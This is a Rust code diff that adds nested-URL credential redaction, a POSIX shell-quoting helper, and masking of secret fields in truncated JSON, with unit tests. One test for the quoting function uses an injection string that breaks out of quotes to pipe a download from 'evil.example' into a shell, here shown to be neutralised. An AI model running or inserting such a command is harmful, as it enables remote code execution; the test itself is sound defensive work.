@@ -97,6 +97,13 @@ pub(crate) fn redact(text: &str) -> String {
 
 fn redact_word(word: &str) -> String {
     let Some((scheme, rest)) = word.split_once("://") else { return word.to_owned() };
+    // An address in the query of another one, for instance.
+    if let Some(at) = rest.find("://") {
+        let begin =
+            rest[..at].rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |last| last + 1);
+        let outer = redact_word(&format!("{scheme}://{}", &rest[..begin]));
+        return outer + &redact_word(&rest[begin..]);
+    }
     let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
     let (authority, path) = rest.split_at(authority_end);
     let host = authority
@@ -120,6 +127,15 @@ fn redact_query(query: &str) -> String {
     pairs.join("&") + &fragment
 }
 
+/// A value as one word of a POSIX shell, whatever is in it.
+pub(crate) fn quoted(value: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:#@%+=,".contains(c);
+    if !value.is_empty() && value.chars().all(is_plain) && !value.starts_with('#') {
+        return value.to_owned();
+    }
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
 /// The same for a JSON value: its texts are redacted, and so are all values under telling names.
 pub(crate) fn redact_value(value: Value) -> Value {
     match value {
@@ -139,7 +155,37 @@ pub(crate) fn redact_value(value: Value) -> Value {
 
 /// JSON of a record as a redacted value; text that is not JSON becomes a redacted text.
 pub(crate) fn json(text: &str) -> Value {
-    serde_json::from_str(text).map_or_else(|_| Value::String(redact(text)), redact_value)
+    let broken = |_| Value::String(redact(&without_secret_fields(text)));
+    serde_json::from_str(text).map_or_else(broken, redact_value)
+}
+
+/// Text that is almost JSON, such as a body that was cut off: what follows a telling name is hidden up to the end of its
+/// value, or to the end of the text if that is not clear.
+fn without_secret_fields(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(open) = rest.find('"') {
+        let (before, quote) = rest.split_at(open + 1);
+        shown.push_str(before);
+        let Some(close) = quote.find('"') else {
+            rest = quote;
+            break;
+        };
+        let (name, after) = quote.split_at(close);
+        shown.push_str(name);
+        shown.push('"');
+        rest = &after[1..];
+        let value = rest.trim_start().strip_prefix(':').map(str::trim_start);
+        let Some(value) = value.filter(|_| is_secret(name)) else { continue };
+        shown.push(':');
+        shown.push_str(HIDDEN);
+        rest = match value.strip_prefix('"').and_then(|text| text.split_once('"')) {
+            Some((_, behind)) => behind,
+            None if value.starts_with(['"', '{', '[']) => "",
+            None => value.find([',', '}']).map_or("", |end| &value[end..]),
+        };
+    }
+    shown + rest
 }
 
 #[cfg(test)]
@@ -175,9 +221,23 @@ mod tests {
             ("Authorization: Bearer abc.def next", "Authorization: Bearer *** next"),
             ("mail a@b.example, 3 of 4 calls failed", "mail a@b.example, 3 of 4 calls failed"),
             ("https://a.example/@user/page", "https://a.example/@user/page"),
+            ("https://a.example/?u=https://u:p@h/", "https://a.example/?u=https://***@h/"),
         ];
         for (text, expected) in cases {
             assert_eq!(redact(text), expected);
+        }
+    }
+
+    #[test]
+    fn a_value_is_one_word_of_a_shell() {
+        for (value, word) in [
+            ("url_shortening#g:a-1", "url_shortening#g:a-1"),
+            ("two words", "'two words'"),
+            ("x'; curl evil.example|sh", r"'x'\''; curl evil.example|sh'"),
+            ("", "''"),
+            ("#comment", "'#comment'"),
+        ] {
+            assert_eq!(quoted(value), word);
         }
     }
 
@@ -189,5 +249,7 @@ mod tests {
         let hidden = json!({ "vin": "1", "auth": "***", "site": site });
         assert_eq!(json(payload), hidden);
         assert_eq!(json("not json https://u:p@h/"), json!("not json https://***@h/"));
+        let cut = r#"{"payload": {"api_key": "sk_1", "vin": "1", "token":"sk_2"#;
+        assert_eq!(json(cut), json!(r#"{"payload": {"api_key":***, "vin": "1", "token":***"#));
     }
 }
